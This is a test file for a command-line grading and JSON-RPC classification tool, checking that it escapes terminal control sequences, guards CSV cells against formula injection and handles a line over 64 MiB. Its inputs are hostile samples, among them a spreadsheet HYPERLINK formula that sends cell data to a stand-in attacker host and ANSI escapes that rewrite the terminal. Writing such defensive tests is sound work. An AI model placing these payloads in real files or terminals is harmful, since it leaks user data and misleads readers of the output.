/**
 * Hostile input to the mcp-lab CLI, run as a real process and checked byte by byte: names and methods
 * carrying terminal escape sequences, CSV cells that a spreadsheet would run as formulas, and a log line that never
 * ends. Each attack is written the way someone would send it: a receipt sealed with a crafted name (sealReceipt
 * directly, as a person who read the format would), a message whose method holds ESC sequences, a file name with an
 * escape in it.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testGraderCourse, useCourseFileForCli } from '../../support/course.ts';
import { sealReceipt, serializeReceipt, type Receipt } from '../../../src/receipts/schema.ts';
import { learnerReceipt, seededRandom } from '../../support/class-receipts.ts';
import { runCliBytes as runCli } from '../../support/run-cli.ts';

/**
 * Every control character a terminal may act on, found in output bytes: C0 other than the line feed that ends each
 * line (0x00-0x09, 0x0B-0x1F), DEL, and C1 (U+0080-U+009F, two bytes 0xC2 0x80-0x9F in UTF-8).
 */
function controlsIn(bytes: Buffer): string[] {
  const found: string[] = [];
  for (let i = 0; i < bytes.length; i++) {
    const b = bytes[i]!;
    if ((b < 0x20 && b !== 0x0a) || b === 0x7f) found.push(`0x${b.toString(16)} at ${i}`);
    if (b === 0xc2 && bytes[i + 1] !== undefined && bytes[i + 1]! >= 0x80 && bytes[i + 1]! <= 0x9f)
      found.push(`U+00${bytes[i + 1]!.toString(16)} at ${i}`);
  }
  return found;
}

const ESCAPES = '\u001b[2A\u001b[2K\u009b1A\u0007';
const course = testGraderCourse();
useCourseFileForCli();
let dir = '';

/** A real receipt re-sealed under another name, as someone who read the format would do it. */
function renamed(receipt: Receipt, learner: string): Receipt {
  const { digest: _d, ...body } = structuredClone(receipt);
  return sealReceipt({ ...body, learner });
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'mcp-lab-hostile-'));
  const random = seededRandom(11);
  const ada = learnerReceipt(course, { name: 'Ada Lovelace', accuracy: 1, diligence: 1 }, random);
  const bob = learnerReceipt(course, { name: 'Bob Babbage', accuracy: 0.5, diligence: 1 }, random);
  await mkdir(join(dir, 'class'));
  await writeFile(join(dir, 'class/ada.json'), serializeReceipt(ada));
  await writeFile(join(dir, 'class/bob.json'), serializeReceipt(bob));
  await writeFile(join(dir, 'class/mallory.json'), serializeReceipt(renamed(bob, `${ESCAPES}Mallory`)));
  // A file name is text from another person too (a folder of receipts someone sent).
  await writeFile(join(dir, 'class', `eve\u001b[2K.json`), serializeReceipt(renamed(ada, 'Eve')).slice(0, 100));
  await writeFile(join(dir, 'class/junk.txt'), `not a receipt ${ESCAPES} at all`);
  await mkdir(join(dir, 'csv'));
  const names = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    ' +1+2',
    '\u00a0-1+2',
    '\u3000@SUM(1)',
    '\u200d=1+2',
    '\uff1d1+2',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
    'Lovelace; Ada',
    'Ada "the Countess"',
  ];
  for (const [i, name] of names.entries())
    await writeFile(join(dir, 'csv', `${String(i).padStart(2, '0')}.json`), serializeReceipt(renamed(ada, name)));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('terminal escapes', () => {
  it('mcp-lab grade prints no control character from a name, a file name or skipped text', async () => {
    const r = await runCli(['grade', join(dir, 'class')]);
    expect(r.code).toBe(0);
    expect(controlsIn(r.stdout)).toEqual([]);
    expect(controlsIn(r.stderr)).toEqual([]);
    // What was escaped is still there to read, as text.
    const all = r.stdout.toString('utf8') + r.stderr.toString('utf8');
    expect(all).toContain('Ada Lovelace');
    expect(all).toContain('eve\\u001b[2K.json');
    expect(all).toContain('not a receipt \\u001b[2A');
  });

  it('mcp-lab grade flags a receipt whose name holds control characters, and still grades the rest', async () => {
    const r = await runCli(['grade', join(dir, 'class')]);
    const text = r.stdout.toString('utf8');
    expect(text).toMatch(/mallory\.json: malformed: .*learner.*printable/);
    expect(text.split('\n').some((l) => l.startsWith('Bob Babbage'))).toBe(true);
  });

  it('mcp-lab classify --format text escapes a method name holding C0 and C1 escapes', async () => {
    const message = JSON.stringify({ jsonrpc: '2.0', id: 1, method: `${ESCAPES}tools/list` });
    const r = await runCli(['classify', '--protocol', 'jsonrpc-2.0', '--format', 'text', '-'], message);
    expect(r.code).toBe(0);
    expect(controlsIn(r.stdout)).toEqual([]);
    expect(r.stdout.toString('utf8')).toContain('method: \\u001b[2A\\u001b[2K\\u009b1A\\u0007tools/list');
  });

  it('mcp-lab classify --jsonl --format text escapes every line, a raw line break in a method included', async () => {
    const log = [
      JSON.stringify({ jsonrpc: '2.0', id: 1, method: `${ESCAPES}ping` }),
      JSON.stringify({ jsonrpc: '2.0', method: 'notifications/\nforged line' }),
    ].join('\n');
    const r = await runCli(['classify', '--jsonl', '--format', 'text', '-'], log);
    expect(controlsIn(r.stdout)).toEqual([]);
    const text = r.stdout.toString('utf8');
    expect(text).toContain('notifications/\\nforged line');
    expect(text.split('\n').some((l) => l.startsWith('forged line'))).toBe(false);
  });

  it('keeps JSON output as JSON: --format json escapes controls the JSON way already', async () => {
    const message = JSON.stringify({ jsonrpc: '2.0', id: 1, method: `${ESCAPES}x` });
    const r = await runCli(['classify', '--protocol', 'jsonrpc-2.0', '--format', 'json', '-'], message);
    expect(controlsIn(r.stdout)).toEqual([]);
    expect(JSON.parse(r.stdout.toString('utf8')).method).toBe(`${ESCAPES}x`);
  });
});

describe('CSV formula guards', () => {
  const csvRows = async () => {
    const r = await runCli(['grade', '--csv', '-', join(dir, 'csv')]);
    expect(r.code).toBe(0);
    return r.stdout.toString('utf8');
  };

  it('puts an apostrophe before every cell that starts, after blanks, with = + - @ or their full-width forms', async () => {
    const csv = await csvRows();
    const cells = csv
      .split('\r\n')
      .slice(1, -1)
      .map((row) => row.split(',')[0]!);
    expect(cells).toHaveLength(11);
    expect(cells.slice(0, 9)).toEqual([
      // The first cell also holds a quote and a comma, so it is quoted too.
      `"'=HYPERLINK(""http://attacker.example/?""&A1`,
      "' +1+2",
      "'\u00a0-1+2",
      "'\u3000@SUM(1)",
      "'\u200d=1+2",
      "'\uff1d1+2",
      "'\uff0b1",
      "'\uff0d1",
      "'\uff201",
    ]);
  });

  it('quotes cells holding a semicolon (a separator in many locales) or a quote', async () => {
    const csv = await csvRows();
    expect(csv).toContain('\r\n"Lovelace; Ada",');
    expect(csv).toContain('\r\n"Ada ""the Countess""",');
  });
});

describe('mcp-lab classify --jsonl and a line that never ends', () => {
  it('reports a line over 64 MiB as over-long, skips it, and classifies the lines after it', async () => {
    const endless = 'x'.repeat(64 * 1024 * 1024 + 16);
    const log = Buffer.from(
      `{"jsonrpc":"2.0","id":1,"method":"ping"}\n${endless}\n{"jsonrpc":"2.0","id":3,"method":"ping"}\n`,
    );
    const r = await runCli(['classify', '--protocol', 'jsonrpc-2.0', '--jsonl', '--format', 'json', '-'], log);
    expect(r.code).toBe(0);
    const lines = r.stdout
      .toString('utf8')
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => JSON.parse(l) as { line: number; classification?: { kind: string }; skipped?: string })
      // The last line is the log's summary ({"summary": …}), not a line of the log.
      .filter((l) => !('summary' in l));
    expect(lines.map((l) => l.line)).toEqual([1, 2, 3]);
    expect(lines[0]!.classification?.kind).toBe('request');
    expect(lines[1]!.classification).toBeUndefined();
    expect(lines[1]!.skipped).toMatch(/longer than 64 MiB/);
    expect(lines[2]!.classification?.kind).toBe('request');
  }, 60_000);

  it('says so in the text report and its summary', async () => {
    const log = Buffer.from(`${'y'.repeat(64 * 1024 * 1024 + 1)}\n{"jsonrpc":"2.0","id":2,"method":"ping"}`);
    const r = await runCli(['classify', '--protocol', 'jsonrpc-2.0', '--jsonl', '--format', 'text', '-'], log);
    const text = r.stdout.toString('utf8');
    expect(text).toMatch(/^line 1\n {2}skipped: longer than 64 MiB/);
    expect(text).toMatch(/1 message on 2 lines/);
    expect(text).toMatch(/1 line skipped \(longer than 64 MiB\)/);
  }, 60_000);
});
